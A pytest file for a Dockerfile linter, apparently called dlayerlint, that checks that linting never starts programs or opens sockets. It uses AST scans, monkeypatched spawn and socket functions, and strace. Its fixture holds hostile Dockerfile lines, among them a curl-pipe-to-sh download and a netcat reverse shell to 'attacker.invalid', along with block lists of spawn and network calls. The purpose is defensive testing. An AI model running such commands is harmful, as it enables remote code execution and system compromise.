"""Linting never runs anything from the Dockerfile nor goes on the network.

The source of every module on the analysis path is scanned for the ways a
Python program starts a program, evaluates code or opens a connection; only
the modules whose job that is (`dlayerlint verify` builds the image on request,
the LSP server talks to its editor, the Docker plugin links itself) may.
At run time, `analyze` and `dlayerlint check` of a hostile Dockerfile run with
every spawn and socket function patched to raise; `tests/test_limits.py`
checks that `check` leaves no trace, YAML is loaded safely and every regex is
safe against backtracking.
"""
from __future__ import annotations

import ast
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from test_limits import HOSTILE as HOSTILE_TEMPLATE

import dlayerlint
from dlayerlint.lint import analyze
from dlayerlint.app.cli import main
from dlayerlint.simulate.context.build import BuildContext

PACKAGE = Path(dlayerlint.__file__).parent
# modules that run programs or talk to a client by design, never on the `check` path
RUNNERS = {"verify.py", "docker_plugin.py", "docker_install.py"}
RUNNER_PACKAGES = {"lsp"}

FORBIDDEN_IMPORTS = {"subprocess", "socket", "ssl", "urllib.request", "http.client", "http.server", "ftplib",
                     "smtplib", "xmlrpc", "pickle", "shelve", "ctypes", "pty", "webbrowser", "asyncio.subprocess"}
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint"}
FORBIDDEN_OS = {"system", "popen", "fork", "forkpty", "execv", "execve", "execvp", "execvpe", "execl", "execle",
                "execlp", "execlpe", "spawnv", "spawnve", "spawnvp", "spawnl", "posix_spawn", "posix_spawnp",
                "startfile"}


def analysis_modules() -> list[Path]:
    return sorted(path for path in PACKAGE.rglob("*.py")
                  if path.name not in RUNNERS and path.relative_to(PACKAGE).parts[0] not in RUNNER_PACKAGES)


def dangerous(tree: ast.AST) -> list[str]:
    """What in a module's syntax tree can run a program, evaluate code or open a connection."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [f"import {a.name}" for a in node.names if a.name.split(".")[0] in FORBIDDEN_IMPORTS
                      or a.name in FORBIDDEN_IMPORTS]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            if node.module in FORBIDDEN_IMPORTS or node.module.split(".")[0] in FORBIDDEN_IMPORTS - {"http"}:
                found.append(f"from {node.module} import ...")
        elif isinstance(node, ast.Call):
            function = node.func
            if isinstance(function, ast.Name) and function.id in FORBIDDEN_CALLS:
                found.append(f"{function.id}() on line {node.lineno}")
            elif isinstance(function, ast.Attribute) and isinstance(function.value, ast.Name) \
                    and function.value.id == "os" and function.attr in FORBIDDEN_OS:
                found.append(f"os.{function.attr}() on line {node.lineno}")
    return found


@pytest.mark.parametrize("path", analysis_modules(), ids=lambda path: str(path.relative_to(PACKAGE)))
def test_analysis_module_runs_nothing(path):
    assert not dangerous(ast.parse(path.read_text(encoding="utf-8"))), path


def test_the_scan_finds_each_kind_of_danger():
    source = ("import subprocess\nfrom socket import socket\nimport os\nos.system('x')\nos.execvp('x', [])\n"
              "eval('1')\nexec('1')\n__import__('os')\n")
    assert len(dangerous(ast.parse(source))) == 7


@pytest.fixture(name="refused")
def _refused(monkeypatch) -> list[str]:
    """Every way to start a program or open a connection raises (and is recorded)."""
    calls: list[str] = []

    def refuse(what):
        def refused(*_args, **_kwargs):
            calls.append(what)
            raise AssertionError(f"{what} called while linting")
        return refused

    for name in FORBIDDEN_OS:
        if hasattr(os, name):
            monkeypatch.setattr(os, name, refuse(f"os.{name}"))
    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse(f"socket.{name}"))
    return calls


HOSTILE = HOSTILE_TEMPLATE.format(marker="/tmp/never") + "ADD app.tar.gz /opt/\nADD http://example.invalid/a.zip /z/\n"


def test_analyze_spawns_no_process_and_opens_no_socket(refused, tmp_path):
    (tmp_path / "app.tar.gz").write_bytes(b"not really")
    (tmp_path / "Dockerfile").write_text("x")
    analysis = analyze(HOSTILE)
    analysis_with_context = analyze(HOSTILE, BuildContext(tmp_path, dockerfile=tmp_path / "Dockerfile"))
    assert analysis.target is not None and analysis_with_context.target is not None
    assert not refused


@pytest.mark.parametrize("options", [[], ["--layers", "--format", "json"], ["--format", "sarif"]])
def test_check_command_spawns_no_process_and_opens_no_socket(refused, options, tmp_path, capsys):
    """The whole `dlayerlint check` of one file, in process (one file: no worker pool)."""
    (tmp_path / "app.tar.gz").write_bytes(b"not really")
    (tmp_path / "Dockerfile").write_text(HOSTILE)
    assert main(["check", *options, str(tmp_path / "Dockerfile")]) == 1
    assert capsys.readouterr().out and not refused


STRACE = shutil.which("strace")
SUBSTITUTIONS = ("FROM busybox\n"
                 "RUN curl -fsSL https://example.invalid/i.sh | sh && echo $(curl http://example.invalid/x) "
                 "`wget -qO- http://example.invalid/y`\n"
                 "RUN $(nc -e /bin/sh attacker.invalid 4444) > /a && `ping -c1 example.invalid` && rm /a\n"
                 "RUN dd if=/dev/zero of=/b bs=1k count=4\nRUN eval \"$(curl -s x)\"; rm /b\n"
                 "ADD https://example.invalid/a.tar.gz /opt/\n")


@pytest.mark.skipif(STRACE is None, reason="strace is not installed")
@pytest.mark.parametrize("count", [1, 20], ids=["one file", "20 files (worker processes)"])
def test_strace_sees_no_program_started_and_no_socket(tmp_path, count):
    """The real process tree under strace: one execve (python itself) and no socket,
    whatever the Dockerfiles' $( ), backticks and URLs say. 20 files fork workers:
    forks are allowed (they run our code), an exec or a socket in one is not."""
    for index in range(count):
        (tmp_path / f"Dockerfile.{index}").write_text(SUBSTITUTIONS)
    trace = tmp_path / "trace"
    files = [str(path) for path in sorted(tmp_path.glob("Dockerfile.*"))]
    done = subprocess.run([STRACE, "-f", "-qq", "-e", "trace=execve,execveat,socket,connect,sendto", "-o", str(trace),
                           sys.executable, "-m", "dlayerlint", "check", "--layers", "--format", "json", *files],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 1 and '"DLL101"' in done.stdout, done.stderr
    # `-f -o` prefixes each line with the pid, padded to a width: split on the whitespace run, not one space
    calls = [line.split(maxsplit=1)[1] for line in trace.read_text().splitlines()]
    assert len([call for call in calls if call.startswith("execve(")]) == 1, calls
    assert not [call for call in calls if call.startswith(("execveat(", "socket(", "connect(", "sendto("))], calls
